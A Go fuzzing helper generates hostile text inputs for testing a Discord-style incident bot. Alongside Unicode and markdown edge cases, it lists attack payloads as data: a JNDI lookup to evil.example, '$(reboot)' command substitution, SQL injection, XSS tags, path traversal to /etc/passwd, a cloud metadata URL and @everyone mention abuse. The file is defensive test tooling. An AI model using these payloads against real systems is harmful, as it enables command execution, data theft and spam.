package hostile

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

type kind struct {
	name string
	make func(r *rand.Rand) string
}

// kinds stand in a fixed order: Text's results depend on it. New ones go to the end.
var kinds = []kind{
	{"nothing", func(r *rand.Rand) string {
		return pick(r, []string{"", " ", "\n", "\u200b", "\u2800", "\u3164", "\u00ad"})
	}},
	{"plain", Plain},
	{"mention", mention},
	{"fence", fence},
	{"markdown", markdown},
	{"zalgo", zalgo},
	{"direction", direction},
	{"link", link},
	{"control", control},
	{"invalid UTF-8", invalid},
	{"emoji", emoji},
	{"long word", func(r *rand.Rand) string { return strings.Repeat(pick(r, longs), 1+r.IntN(2000)) }},
	{"huge", func(r *rand.Rand) string { return strings.Repeat(Plain(r)+" ", 20+r.IntN(120)) }},
	{"newlines", func(r *rand.Rand) string {
		return repeat(r, pick(r, []string{"\n", "\r\n", "\n ", "\r", "\u2029"}), 400)
	}},
	{"script", script},
	{"template", func(r *rand.Rand) string { return pick(r, templates) }},
	{"json", func(r *rand.Rand) string { return pick(r, jsons) }},
	{"custom id", func(r *rand.Rand) string { return pick(r, routes) }},
	{"timestamp", func(r *rand.Rand) string {
		return fmt.Sprintf("<t:%d:%s>", r.Int64()-r.Int64(), pick(r, []string{"R", "F", "t", "X", ""}))
	}},
	{"boundary", boundary},
}

func mention(r *rand.Rand) string {
	id := fmt.Sprintf("%d", 100000000000000000+r.Int64N(1000000000000000000))
	return pick(r, []string{
		"@everyone", "@here", "@EVERYONE", "@\u200beveryone", "@everyone@here", "\\@everyone", "`@everyone`", "||@here||",
		"<@" + id + ">", "<@!" + id + ">", "<@&" + id + ">", "<#" + id + ">", "<id:customize>", "</status post:" + id + ">",
		"<@" + id, "@" + id + ">", "<@<@" + id + ">>", "<@&" + id + "><@&" + id + ">", "<a:x:" + id + ">", "<:x:" + id + ">",
		"@everyon\u0435", "＠everyone", "@\u2060here", "<@\n" + id + ">", "```@everyone", "[@everyone](https://example.org)",
	})
}

func fence(r *rand.Rand) string {
	inner := Plain(r)
	return pick(r, []string{
		"```", "```\n", "``````", "````", "`````", "`", "``", "```go\n" + inner, "```\n" + inner + "\n```", "```" + inner + "```\n```",
		"```\n```\n```\n" + inner, "\\```" + inner, "\\`\\`\\`" + inner, "`` ``` ``", "```ansi\n\x1b[31m" + inner, "`" + inner + "```",
		"```\n```go\n" + inner + "\n```\n", "~~~\n" + inner, "`\u200b``" + inner, strings.Repeat("`", 1+r.IntN(50)), "```" + inner + "``",
		inner + "\n```\n" + inner + "\n``` `", "```\\```" + inner,
	})
}

func markdown(r *rand.Rand) string {
	inner := Plain(r)
	return pick(r, []string{
		"**" + inner, "__" + inner + "**", "~~" + inner, "||" + inner, "||" + inner + "||", "> " + inner, ">>> " + inner, "# " + inner,
		"### " + inner, "-# " + inner, "- " + inner + "\n  - " + inner, "1. " + inner, "***" + inner + "_*_", "\\", inner + "\\", "\\\\\\",
		"_" + inner + "_", "*", "**", "||", strings.Repeat("**_||", 1+r.IntN(100)), "[" + inner + "](", "<" + inner + ">", "<t:", "</a:1>",
	})
}

// zalgo stacks marks on letters, up to some hundred on one.
func zalgo(r *rand.Rand) string {
	var b strings.Builder
	for _, letter := range Plain(r) {
		b.WriteRune(letter)
		for range r.IntN(40) {
			b.WriteRune(marks[r.IntN(len(marks))])
		}
	}
	if r.IntN(4) == 0 {
		b.WriteString("x" + strings.Repeat("\u0489", 200))
	}
	return b.String()
}

var marks = []rune{0x300, 0x301, 0x30d, 0x315, 0x321, 0x334, 0x338, 0x35c, 0x360, 0x489, 0x20dd, 0x1ab0, 0x1dc0, 0xfe20, 0x0483, 0x05b0, 0x064b, 0x0e31, 0x0f71, 0x1d165 + 2, 0xe0100, 0xfe0f}

func direction(r *rand.Rand) string {
	c := pick(r, []string{"\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"})
	return pick(r, []string{
		c + Plain(r), Plain(r) + c, c + c + c, "invoice" + c + "gpj.exe", "https://example.org/" + c + "moc.live", strings.Repeat(c+"a", 1+r.IntN(60)),
	})
}

func link(r *rand.Rand) string {
	return pick(r, []string{
		"https://discord.gg/raid", "discord.com/invite/raid", "[https://status.example.org](https://evil.example)", "[Acknowledge](https://evil.example)",
		"[a](<https://evil.example> \"title\")", "<https://evil.example/@everyone>", "https://example.org/" + strings.Repeat("a/", r.IntN(1500)), "javascript:alert(1)",
		"http://169.254.169.254/latest", "https://example.org/?q=<@&1>", "https://раураl.example", "file:///etc/passwd", "[x](javascript:alert(1))",
		"https://user:password@example.org", "http://[::1]:80/", "https://example.org/%00%ff", "https://", "//evil.example", "https://exa mple.org", "attachment://x.png",
		"https://example.org/)](", "steam://open/console", "[\u200b](https://evil.example)", "https://example.org\\@evil.example",
	})
}

func control(r *rand.Rand) string {
	return pick(r, []string{
		"\x00", "a\x00b", "\x1b[2J\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x07\x08\x7f", "\x85\u0085\u009b31m", "\u2028\u2029", "\ufeff", "\ufffe\uffff", "\u200b\u200c\u200d\u2060",
		"\x0b\x0c", "\r", "\ufff9\ufffa\ufffb", "\U000e0001\U000e0041\U000e007f", "\u00ad\u00ad", strings.Repeat("\u200b", 1+r.IntN(2500)), "\ue000\uf8ff\U0010ffff",
	})
}

func invalid(r *rand.Rand) string {
	return pick(r, []string{
		"\xff", "a\xc3", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xc0\xaf", "ok\x80ok", "\xe2\x82", strings.Repeat("\xfe", 1+r.IntN(300)), "\xf0\x9f\x98", "\u00e9\xe9", "@every\xffone", "``\xff`",
	})
}

func emoji(r *rand.Rand) string {
	return repeat(r, pick(r, []string{
		"👨‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "🇦", "👍🏿", "1️⃣", "❤️‍🔥", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "😀", ":fire:", "<:fire:123456789012345678>", "⃣", "🧑🏻‍🤝‍🧑🏿", "☠︎", "\u200d", "\ufe0f", "𝕬𝖇𝖈", "🏿",
	}), 60)
}

func script(r *rand.Rand) string {
	return pick(r, []string{
		"مرحبا بالعالم", "שָׁלוֹם עֲלֵיכֶם", "नमस्ते क्षत्रिय", "ကြောင့်", "ที่นี่", "日本語のテキスト", "한국어", "İstanbul ı ſ ß ǅ", "ﷺﷺﷺ", "a\u0301\u0302\u0303", "Ⅷ①½", "ﬁﬂ", "ΑΣς", "ꙮ", "𒐫𒈙⸻꧅",
		"ជំរាបសួរ", "བོད་སྐད", "Ａｃｋ", "ᄀᄀᄀ각ᆨᆨ", "e\u0301e\u0301",
	})
}

// boundary has a length next to a limit of Discord's, in characters of one to four bytes.
func boundary(r *rand.Rand) string {
	limits := []int{25, 32, 45, 80, 100, 150, 256, 512, 1024, 2000, 2048, 4000, 4096}
	n := limits[r.IntN(len(limits))] + r.IntN(3) - 1
	c := pick(r, []string{"a", "é", "€", "💥", "\n", "`", "*", " ", "e\u0301"})
	for n*len(c) > 12000 {
		n /= 2
	}
	return strings.Repeat(c, n)
}

var (
	longs     = []string{"a", "W", "ﷺ", "ab-", "/", "é", "\u00a0", "=", "xn--", "9", ".", "_"}
	templates = []string{"{{ .Labels.alertname }}", "{{range $i, $e := .}}", "${jndi:ldap://evil.example}", "$(reboot)", "`reboot`", "%s%s%n", "%!d(string=x)", "'; DROP TABLE entries; --", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "INC-7", "INC-99999999999999999999", "#", "INC-1#17", "NaN", "-0", "1e999"}
	jsons     = []string{`{"allowed_mentions":{"parse":["everyone"]}}`, `","allowed_mentions":null,"x":"`, `\u0040everyone`, `"}`, `null`, `[]`, "--boundary\r\nContent-Disposition: form-data; name=\"payload_json\"\r\n\r\n{}", `\`, `\"`, "\u2028\"}"}
	routes    = []string{"do/incident/ack?incident=INC-7", "do/node/recycle?node=db-1&confirm=yes", "kept/0", "kept/../../x", "send/status/post?incident=INC-7&text=%00", "form//", "do/?a=b&a=c", "pick/" + strings.Repeat("x", 95), "%2e%2e/%2e%2e", "do/incident/ack#INC-8"}
)
